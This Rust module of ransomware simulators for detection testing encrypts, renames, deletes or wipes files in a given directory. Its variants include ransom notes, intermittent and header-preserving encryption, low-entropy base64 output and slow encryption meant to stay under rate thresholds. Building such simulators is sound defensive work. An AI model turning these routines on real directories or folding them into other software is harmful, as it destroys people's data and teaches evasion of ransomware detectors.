//! Ransomware simulators with real AES-256-CTR (throwaway key from the seed), for detection
//! tests. They only touch files under the directory they are given: always a temporary one.
//!
//! Each takes the share of files to attack (`fraction`, at least one file) or a count, picks the
//! files with the seed, and returns the original paths it touched.

use std::io;
use std::path::{Path, PathBuf};

use aes::Aes256;
use base64::Engine as _;
use ctr::cipher::{KeyIvInit, StreamCipher};
use rand::seq::SliceRandom;
use rand::{Rng, RngCore, SeedableRng};
use rand_chacha::ChaCha8Rng;

use crate::tree::list_files;

type Aes256Ctr = ctr::Ctr128BE<Aes256>;

/// AES-256-CTR keystream with a key and IV drawn from `r`: real ciphertext.
pub struct Cipher(Aes256Ctr);

impl Cipher {
    /// A throwaway key and IV.
    pub fn new(r: &mut impl RngCore) -> Self {
        let mut key = [0u8; 32];
        let mut iv = [0u8; 16];
        r.fill_bytes(&mut key);
        r.fill_bytes(&mut iv);
        Cipher(Aes256Ctr::new(&key.into(), &iv.into()))
    }

    /// Encrypts in place, continuing the keystream.
    pub fn apply(&mut self, data: &mut [u8]) {
        self.0.apply_keystream(data);
    }
}

/// Encrypts `data[range]` in place with a key derived from `seed`.
pub fn encrypt_range(data: &mut [u8], range: std::ops::Range<usize>, seed: u64) {
    let mut r = ChaCha8Rng::seed_from_u64(seed);
    let end = range.end.min(data.len());
    let start = range.start.min(end);
    Cipher::new(&mut r).apply(&mut data[start..end]);
}

/// The note every family that leaves one drops, one per directory touched.
pub const NOTE_NAME: &str = "HOW_TO_DECRYPT_FILES.txt";

fn pick(dir: &Path, r: &mut ChaCha8Rng, count: usize) -> io::Result<Vec<PathBuf>> {
    let mut files = list_files(dir)?;
    files.shuffle(r);
    files.truncate(count.max(1));
    files.sort();
    Ok(files)
}

fn pick_share(dir: &Path, r: &mut ChaCha8Rng, fraction: f64) -> io::Result<Vec<PathBuf>> {
    let n = list_files(dir)?.len();
    pick(dir, r, (n as f64 * fraction).ceil() as usize)
}

fn random_word(r: &mut ChaCha8Rng, len: usize, alphabet: &[u8]) -> String {
    (0..len)
        .map(|_| alphabet[r.random_range(0..alphabet.len())] as char)
        .collect()
}

const LOWER: &[u8] = b"abcdefghijklmnopqrstuvwxyz";
const ALNUM: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";

fn append_ext(path: &Path, ext: &str) -> PathBuf {
    let mut s = path.as_os_str().to_owned();
    s.push(".");
    s.push(ext);
    PathBuf::from(s)
}

/// Rewrites each file in place with `transform` (the families that keep the file's name).
fn rewrite_in_place(
    files: &[PathBuf],
    mut transform: impl FnMut(Vec<u8>) -> Vec<u8>,
) -> io::Result<()> {
    for f in files {
        let data = std::fs::read(f)?;
        std::fs::write(f, transform(data))?;
    }
    Ok(())
}

/// Whole-file encryption, each file renamed with one attacker extension (`x.pdf` →
/// `x.pdf.qkzvwd`), and a ransom note in every directory touched.
pub fn encrypt_whole_with_rename_and_notes(
    dir: &Path,
    seed: u64,
    fraction: f64,
) -> io::Result<Vec<PathBuf>> {
    let mut r = ChaCha8Rng::seed_from_u64(seed);
    let files = pick_share(dir, &mut r, fraction)?;
    let ext = random_word(&mut r, 6, LOWER);
    let mut c = Cipher::new(&mut r);
    for f in &files {
        let mut data = std::fs::read(f)?;
        c.apply(&mut data);
        std::fs::write(append_ext(f, &ext), &data)?;
        std::fs::remove_file(f)?;
        if let Some(d) = f.parent() {
            std::fs::write(
                d.join(NOTE_NAME),
                b"All your files are encrypted. Send 1 BTC to get the key.\n",
            )?;
        }
    }
    Ok(files)
}

/// The first 4 KiB encrypted in place, each file renamed with its own random extension.
pub fn encrypt_head_4k_random_ext(
    dir: &Path,
    seed: u64,
    fraction: f64,
) -> io::Result<Vec<PathBuf>> {
    let mut r = ChaCha8Rng::seed_from_u64(seed);
    let files = pick_share(dir, &mut r, fraction)?;
    let mut c = Cipher::new(&mut r);
    for f in &files {
        let mut data = std::fs::read(f)?;
        let n = data.len().min(4096);
        c.apply(&mut data[..n]);
        let ext = random_word(&mut r, 5, ALNUM);
        std::fs::write(append_ext(f, &ext), &data)?;
        std::fs::remove_file(f)?;
    }
    Ok(files)
}

/// Intermittent encryption in place: 16 KiB of every 64 KiB, from offset 0.
pub fn intermittent(dir: &Path, seed: u64, fraction: f64) -> io::Result<Vec<PathBuf>> {
    let mut r = ChaCha8Rng::seed_from_u64(seed);
    let files = pick_share(dir, &mut r, fraction)?;
    let mut c = Cipher::new(&mut r);
    rewrite_in_place(&files, |mut data| {
        for stripe in data.chunks_mut(64 * 1024) {
            let n = stripe.len().min(16 * 1024);
            c.apply(&mut stripe[..n]);
        }
        data
    })?;
    Ok(files)
}

/// Header-preserving encryption in place: the magic bytes stay (132 bytes for DICOM, whose
/// magic is at 128; 16 otherwise), everything after is encrypted.
pub fn header_preserving(dir: &Path, seed: u64, fraction: f64) -> io::Result<Vec<PathBuf>> {
    let mut r = ChaCha8Rng::seed_from_u64(seed);
    let files = pick_share(dir, &mut r, fraction)?;
    let mut c = Cipher::new(&mut r);
    rewrite_in_place(&files, |mut data| {
        let keep = if data.get(128..132) == Some(b"DICM") {
            132
        } else {
            16
        };
        let keep = keep.min(data.len());
        c.apply(&mut data[keep..]);
        data
    })?;
    Ok(files)
}

/// Encrypts each file into a new file with a random name and the same extension beside it
/// (16-byte IV first, as many tools do), then deletes the original.
pub fn encrypt_to_new_and_delete(dir: &Path, seed: u64, fraction: f64) -> io::Result<Vec<PathBuf>> {
    let mut r = ChaCha8Rng::seed_from_u64(seed);
    let files = pick_share(dir, &mut r, fraction)?;
    for f in &files {
        let mut data = std::fs::read(f)?;
        let mut iv = [0u8; 16];
        r.fill_bytes(&mut iv);
        Cipher::new(&mut r).apply(&mut data);
        let mut name = random_word(&mut r, 12, ALNUM);
        if let Some(e) = f.extension().and_then(|e| e.to_str()) {
            name = format!("{name}.{e}");
        }
        let mut out = iv.to_vec();
        out.extend_from_slice(&data);
        std::fs::write(f.with_file_name(name), out)?;
        std::fs::remove_file(f)?;
    }
    Ok(files)
}

/// Encryption whose output is base64 text (76-column lines), in place: entropy only ~6 bits/byte.
pub fn base64_ciphertext(dir: &Path, seed: u64, fraction: f64) -> io::Result<Vec<PathBuf>> {
    let mut r = ChaCha8Rng::seed_from_u64(seed);
    let files = pick_share(dir, &mut r, fraction)?;
    let mut c = Cipher::new(&mut r);
    rewrite_in_place(&files, |mut data| {
        c.apply(&mut data);
        let b64 = base64::engine::general_purpose::STANDARD.encode(&data);
        let mut out = String::with_capacity(b64.len() + b64.len() / 76 + 1);
        for line in b64.as_bytes().chunks(76) {
            out.push_str(&String::from_utf8_lossy(line));
            out.push('\n');
        }
        out.into_bytes()
    })?;
    Ok(files)
}

/// Wiping: each file overwritten with zeros of the same length.
pub fn wipe_zeros(dir: &Path, seed: u64, fraction: f64) -> io::Result<Vec<PathBuf>> {
    let mut r = ChaCha8Rng::seed_from_u64(seed);
    let files = pick_share(dir, &mut r, fraction)?;
    for f in &files {
        let n = std::fs::metadata(f)?.len() as usize;
        std::fs::write(f, vec![0u8; n])?;
    }
    Ok(files)
}

/// Slow encryption: `n_files` files encrypted whole, in place, no rename, no note (a few per
/// day, under any rate threshold).
pub fn slow(dir: &Path, seed: u64, n_files: usize) -> io::Result<Vec<PathBuf>> {
    let mut r = ChaCha8Rng::seed_from_u64(seed);
    let files = pick(dir, &mut r, n_files)?;
    let mut c = Cipher::new(&mut r);
    rewrite_in_place(&files, |mut data| {
        c.apply(&mut data);
        data
    })?;
    Ok(files)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encryption_is_real_and_stays_in_dir() -> io::Result<()> {
        let d = tempfile::tempdir()?;
        crate::tree::hospital_tree(d.path(), 50, 3)?;
        let before = list_files(d.path())?;
        let touched = encrypt_whole_with_rename_and_notes(d.path(), 9, 0.1)?;
        assert_eq!(touched.len(), 5);
        let after = list_files(d.path())?;
        assert!(after.iter().all(|p| p.starts_with(d.path())));
        assert!(after.iter().any(|p| p.ends_with(NOTE_NAME)));
        for t in &touched {
            assert!(!t.exists());
        }
        assert_eq!(
            before.len() - 5 + 5 + after.iter().filter(|p| p.ends_with(NOTE_NAME)).count(),
            after.len()
        );
        let mut data = b"hello hospital".to_vec();
        encrypt_range(&mut data, 0..5, 1);
        assert_ne!(&data[..5], b"hello");
        assert_eq!(&data[5..], b" hospital");
        Ok(())
    }
}
